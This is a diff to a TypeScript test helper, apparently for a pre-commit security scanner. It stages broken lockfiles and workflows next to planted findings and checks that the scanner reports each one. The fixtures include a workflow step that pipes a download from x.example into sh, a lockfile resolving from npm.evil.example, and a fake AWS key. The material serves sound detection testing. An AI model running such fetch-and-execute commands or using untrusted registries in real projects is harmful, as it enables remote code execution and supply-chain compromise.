@@ -56,3 +56,60 @@ export async function initRepo(profile = "recommended", extra: Record<string, st
 export function fakeAwsKey(): string {
   return ["AKIA", "QYLP", "MN5H", "HHFK", "ZT3Q"].join("");
 }
+
+/**
+ * Stages, beside two lockfiles and a workflow that cannot be read, what each check must still
+ * find: a root lockfile resolving from an unknown registry, a workflow piping a download into a
+ * shell, an AWS key. `judgedAll` checks a hook's output for all of it, one line per broken file.
+ */
+export async function stageBrokenBesideFindings(repo: GitRepo): Promise<void> {
+  const lock = {
+    name: "shop",
+    version: "1.0.0",
+    lockfileVersion: 3,
+    requires: true,
+    packages: {
+      "": { name: "shop", version: "1.0.0", dependencies: { "left-pad": "1.3.0" } },
+      "node_modules/left-pad": {
+        version: "1.3.0",
+        resolved: "https://npm.evil.example/left-pad/-/left-pad-1.3.0.tgz",
+        integrity: `sha512-${"A".repeat(86)}==`,
+        license: "MIT",
+      },
+    },
+  };
+  repo.write("package-lock.json", `${JSON.stringify(lock, null, 2)}\n`);
+  repo.write("a/package-lock.json", '{ "lockfileVersion": 3,\n');
+  repo.write("b/pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters: [\n");
+  repo.write(".github/workflows/broken.yml", "on: push\njobs: [\n");
+  repo.write(
+    ".github/workflows/fetch.yml",
+    "on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n",
+  );
+  repo.write("deploy.ini", `aws_access_key_id = ${fakeAwsKey()}\n`);
+  await repo.git(["add", "-A"]);
+}
+
+/** What a pre-commit refusing stageBrokenBesideFindings' files must say (its stdout and stderr). */
+export function judgedAll(out: string): Record<string, boolean | number> {
+  const lines = out.split("\n");
+  const named = (file: string) => lines.filter((l) => l.startsWith(`rampart: ${file}:`)).length;
+  return {
+    "disallowed host": out.includes("lockfile/disallowed-host") && out.includes("npm.evil.example"),
+    "curl-pipe-shell": out.includes("workflows/curl-pipe-shell"),
+    "aws key": out.includes("aws-access-key-id") && !out.includes(fakeAwsKey()),
+    "a/package-lock.json": named("a/package-lock.json"),
+    "b/pnpm-lock.yaml": named("b/pnpm-lock.yaml"),
+    ".github/workflows/broken.yml": named(".github/workflows/broken.yml"),
+  };
+}
+
+/** judgedAll's answer when everything was judged and each broken file named once. */
+export const JUDGED_ALL = {
+  "disallowed host": true,
+  "curl-pipe-shell": true,
+  "aws key": true,
+  "a/package-lock.json": 1,
+  "b/pnpm-lock.yaml": 1,
+  ".github/workflows/broken.yml": 1,
+};
